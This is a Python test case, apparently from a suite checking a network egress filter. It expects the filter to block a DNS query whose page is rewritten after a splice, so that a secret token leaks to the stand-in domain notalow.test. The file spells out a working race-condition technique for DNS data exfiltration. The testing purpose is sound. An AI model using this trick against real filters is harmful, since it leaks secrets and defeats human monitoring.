#!/usr/bin/python3
# id: d45_dns_splice_toctou
# title: a query spliced from a page that changes after it was sent
# needs: user
# expect: block
# why: the packet holds the page, and not a copy of it
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import ctypes, mmap
class Iovec(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def f():
    libc = ctypes.CDLL(None, use_errno=True); bad = dnsq(f'{TOK}.notalow.test'); good = dnsq(f'{"a" * 19}.{ANAME}', tid=int.from_bytes(bad[:2], 'big')); assert len(good) == len(bad)
    for _ in range(40):
        m = mmap.mmap(-1, 4096); at = ctypes.addressof(ctypes.c_char.from_buffer(m)); m[:len(good)] = good
        s = socket.socket(type=socket.SOCK_DGRAM); s.connect((ALLOW, 53)); r, w = os.pipe(); v = Iovec(at, len(good))
        if libc.vmsplice(w, ctypes.byref(v), ctypes.c_size_t(1), 0) != len(good): cannot('no vmsplice')
        os.splice(r, s.fileno(), len(good)); m[:len(bad)] = bad; time.sleep(.02); s.close(); os.close(r); os.close(w)
attempt(f, dst=(ALLOW,), chan=('dns',))
